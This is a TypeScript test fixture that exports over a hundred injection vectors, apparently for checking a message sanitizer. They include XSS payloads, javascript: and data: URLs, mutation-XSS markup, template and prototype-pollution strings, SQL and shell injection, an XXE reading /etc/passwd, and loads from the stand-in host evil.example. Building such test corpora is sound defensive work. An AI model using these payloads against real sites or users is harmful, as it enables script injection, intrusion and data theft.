/**
 * What people have tried to get a script run with, by way of something they wrote. Each would
 * leave `pwned` on the window, open a dialog, ask the network for something or go elsewhere.
 * All different, and none contains a line break, so that one is one message.
 */

const run = 'window.pwned=1';
const away = 'https://evil.example';

/** `&#119;&#105;…`: the script as entities, which an attribute's parser would take back. */
const asEntities = (text: string): string => Array.from(text, char => `&#${char.codePointAt(0)};`).join('');
const asEscapes = (text: string): string =>
  Array.from(text, char => `\\u00${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const asBase64 = (text: string): string => Buffer.from(text).toString('base64');

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script >${run}</script >`,
  `<script/x>${run}</script>`,
  `<script src="${away}/x.js"></script>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script type="module">import "${away}/m.js"</script>`,
  `<script>eval('${asEscapes(run)}')</script>`,
  `<script><!--${run}//--></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`,
];

const handlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${asEntities(run)}">`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x:x onerror\u000C=${run}>`,
  `<img """><script>${run}</script>">`,
  `<img src="${away}/pixel.gif">`,
  `<img srcset="${away}/a.png 1x" sizes=1px>`,
  `<img src=x oneonerrorrror=${run} onerror=${run}//`,
  `<IMG SRC=x ONERROR=${run}>`,
  `<image src=x onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<video src=x onerror=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<video poster="${away}/p.png" autoplay>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<svg onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<div contenteditable autofocus onfocus=${run}>`,
  `<div onmouseover=${run} style="position:fixed;inset:0">over here</div>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div style="animation:spin 1s" onanimationstart=${run}>`,
  `<x onclick=${run} style="position:fixed;inset:0">x`,
  `<button autofocus onfocus=${run} popovertarget=x>`,
  `<dialog open onclose=${run}>`,
  `<iframe onload=${run}>`,
  `" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' x='`,
  '` onmouseover=`' + run + '` x=`',
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `&#106;avascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://example.com/%0a${run}`,
  `javascript:/*--></title></style>*/${run}`,
  `<a href="javascript:${run}">press</a>`,
  `<a href="${asEntities(`javascript:${run}`)}">press</a>`,
  `<a href=" &#14; javascript:${run}">press</a>`,
  `[press](javascript:${run})`,
  `![picture](javascript:${run})`,
  `[press]: javascript:${run}`,
  `<javascript:${run}>`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${asBase64(`<script>${run}</script>`)}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `vbscript:msgbox(1)`,
  `blob:null/${'0'.repeat(8)}`,
  `view-source:file:///etc/passwd`,
  `file:///etc/passwd`,
  `<a href="${away}" target=_blank ping="${away}/ping">press</a>`,
  `<base href="${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="${away}/x.css">`,
  `<link rel=prefetch href="${away}/p">`,
  `<form action="javascript:${run}"><button>press</button></form>`,
  `<form><button formaction="javascript:${run}">press</button></form>`,
  `<isindex action="javascript:${run}" type=submit>`,
];

const embedded = [
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>top.${run}</script>"></iframe>`,
  `<iframe src="${away}"></iframe>`,
  `<frameset onload=${run}>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html;base64,${asBase64(`<script>top.${run}</script>`)}"></object>`,
  `<embed src="javascript:${run}">`,
  `<embed src="${away}/x.swf">`,
  `<portal src="${away}" onload=${run}>`,
  `<webview src="${away}" preload="file:///tmp/x.js" nodeintegration></webview>`,
  `<style>@import "${away}/x.css";</style>`,
  `<style>body{background:url("${away}/b.png")}</style>`,
  `<div style="background:url(${away}/d.png)">`,
  `<div style="width:expression(${run})">`,
  `<style>*{display:none!important}</style>`,
  `<xml onreadystatechange=${run}>`,
  `<?xml version="1.0"?><?xml-stylesheet href="${away}/x.xsl"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
];

const foreign = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>press</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<svg><image href="${away}/i.png" onload=${run}></svg>`,
  `<svg><style>@import "${away}/s.css"</style></svg>`,
  `<svg></p><style><a title="</style><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">press</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">press</maction></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}@(7*7)`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `{{{name}}} {{_openBlock()}} [[${run}]]`,
  `<div ng-app>{{$on.constructor('${run}')()}}</div>`,
  `<div v-html="'<img src=x onerror=${run}>'"></div>`,
  `<b dangerouslySetInnerHTML={{__html: '<img src=x onerror=${run}>'}} />`,
  `$t(frame.command) {{count}} <0>press</0>`,
  `__proto__[pwned]=1&constructor[prototype][pwned]=1`,
  `{"__proto__":{"pwned":1},"$$typeof":"Symbol(react.element)","type":"script"}`,
  `'; DROP TABLE message; --`,
  `" OR 1=1 --`,
  `*) OR message_text MATCH (*`,
  `$(touch /tmp/pwned) ; \`touch /tmp/pwned\` && touch /tmp/pwned`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `%s%n%x %d {0} \\x3cscript\\x3e${run}`,
];

const scriptsOfTheWorld = [
  `\u202E<script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `<\u200Bscript>${run}</\u200Bscript>`,
  `<script\u2028>${run}</script>`,
  `\uFEFF<script>${run}</script>`,
  `‹img src=x onerror=${run}›`,
  `<ımg src=x onerror=${run}>`,
  `<ſcript>${run}</ſcript>`,
  `ʺ><img src=x onerror=${run}>`,
  `https://example.com\u202E/moc.live`,
  `https://xn--80ak6aa92e.com/<img src=x onerror=${run}>`,
  `https://example.com/"onmouseover="${run}`,
  `https://example.com/'><script>${run}</script>`,
  `http://example.com@evil.example/ javascript:${run}`,
];

export const vectors: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...embedded,
  ...foreign,
  ...templates,
  ...scriptsOfTheWorld,
];
